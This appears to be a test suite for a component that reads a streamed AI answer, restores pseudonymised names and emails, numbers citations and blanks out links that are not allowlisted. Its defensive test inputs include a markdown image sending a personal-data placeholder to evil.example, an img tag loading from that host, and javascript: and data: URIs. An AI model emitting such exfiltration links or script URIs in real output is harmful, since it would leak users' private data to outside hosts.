import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { addressesIn, createAnswerReader, type Piece } from './answer-reader.js';

const ORIGINALS: Record<string, string> = {
  '⟦P1.1⟧': 'Paula Stein',
  '⟦M1⟧': 'p@x.de',
  '⟦X1⟧': '⟦',
  '⟦X2⟧': '⟧',
};

function readAll(chunks: readonly string[]): Piece[] {
  const reader = createAnswerReader({
    restore: (placeholder) => ORIGINALS[placeholder] ?? null,
    passages: 2,
    addresses: addressesIn(['Siehe https://intern.example/regel?a=1. Und www.firma.de!']),
  });
  return [...chunks.flatMap((chunk) => reader.push(chunk)), ...reader.end()];
}

/** The answer as text; citations as [n]. */
const shown = (pieces: readonly Piece[]): string =>
  pieces.map((piece) => (piece.kind === 'text' ? piece.text : `[${piece.number}]`)).join('');

describe('An answer', () => {
  it.each([
    ['⟦P1.1⟧ schreibt an ⟦M1⟧ ⟦Q1⟧.', 'Paula Stein schreibt an p@x.de [1].'],
    ['Gilt⟦Q2⟧⟦Q1⟧. Auch: ⟦Q3⟧⟦Q0⟧⟦Q999⟧⟦P2.1⟧⟦TEXT⟧⟦/Q1⟧⟦⟧', 'Gilt[2][1]. Auch: '],
    ['Klammern ⟦X1⟧so⟦X2⟧', 'Klammern ⟦so⟧'],
    ['⟦ P1.1 ⟧ und ⟦Q1', ' P1.1  und Q1'],
    [
      'Steht in https://intern.example/regel?a=1, und www.firma.de.',
      'Steht in https://intern.example/regel?a=1, und www.firma.de.',
    ],
    ['![x](https://evil.example/?q=⟦P1.1⟧) [klick](//evil.example/a)', '![x](… Stein) [klick](…)'],
    ['https://intern.example/regel?a=1&q=geheim', '…'],
    ['<img src="https://evil.example/p.png"> javascript:alert(1) data:text/html,x', '<img src="…"> …) …'],
    ['HTTPS://EVIL.example ftp://a.b x://y', '… … …'],
    ['1//2 a://', '1//2 …'],
    [
      '[x](https://intern.example/regel?a=1) (https://intern.example/regel?a=1)',
      '[x](…) (https://intern.example/regel?a=1)',
    ],
    ['![x]( https://intern.example/regel?a=1 )', '![x]( … )'],
    ['<a href=www.firma.de> <www.firma.de> [a]: www.firma.de', '<a href=…> <…> [a]: …'],
  ])('turns %j into %j', (sent, seen) => {
    expect(shown(readAll([sent]))).toBe(seen);
  });

  it('is the same wherever the service cuts its chunks', () => {
    const text =
      'Laut ⟦P1.1⟧ (⟦M1⟧) gilt das ⟦Q1⟧. Mehr: https://evil.example/x?y=z und https://intern.example/regel?a=1 ⟦Q7⟧ 💥 ⟦X1⟧ Ende⟦Q2⟧';
    const whole = shown(readAll([text]));
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 40 }), (cuts) => {
        const places = [0, ...cuts.toSorted((a, b) => a - b), text.length];
        const chunks = places.slice(1).map((to, index) => text.slice(places[index], to));
        expect(shown(readAll(chunks))).toBe(whole);
      }),
    );
    expect(whole).not.toContain('evil');
  });

  it('does not hold back a run without an end', () => {
    expect(shown(readAll(['x'.repeat(3_000), 'y'.repeat(3_000), ' gut']))).toBe('… gut');
  });
});
